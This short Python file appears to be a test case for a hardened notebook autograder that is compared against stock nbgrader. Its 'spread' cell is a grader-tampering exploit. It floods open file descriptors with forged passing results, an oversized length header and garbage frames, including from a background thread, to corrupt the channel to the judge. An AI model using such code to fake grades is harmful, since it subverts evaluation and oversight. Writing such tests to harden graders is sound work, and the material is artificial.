"""Write forged, oversized and garbled results into every open descriptor."""

STOCK = "it attacks the way to the judge, which stock nbgrader does not have"
LOSES = True
TRIED = False
SPREAD = """
import json, os, struct, threading, time
def frames():
    body = json.dumps({"value": {"mark": 1}, "right": True, "changed": []}).encode()
    for frame in (struct.pack(">I", len(body)) + body, struct.pack(">I", 2**32 - 1),
                  b"garbage" * 9):
        for descriptor in range(3, 40):
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, frame)
            except OSError:
                pass
def spread(X, power):
    threading.Thread(target=lambda: (time.sleep(0.01), frames()), daemon=True).start()
    frames()
    time.sleep(0.03)
    return None, None
"""
CELLS = {
    "centre": """
        def centre(X):
            mu = np.mean(X, axis=1, keepdims=True)
            return X - mu
    """,
    "spread": SPREAD,
}
